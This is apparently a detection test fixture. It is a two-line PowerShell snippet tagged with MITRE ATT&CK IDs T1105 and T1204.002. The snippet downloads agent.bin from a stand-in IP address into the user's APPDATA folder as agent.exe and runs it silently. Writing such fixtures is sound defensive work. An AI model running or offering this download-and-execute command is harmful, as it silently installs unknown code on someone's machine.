# expect: T1105 T1204.002
iwr http://203.0.113.50/tools/agent.bin -OutFile "$env:APPDATA\agent.exe"
& "$env:APPDATA\agent.exe" --silent
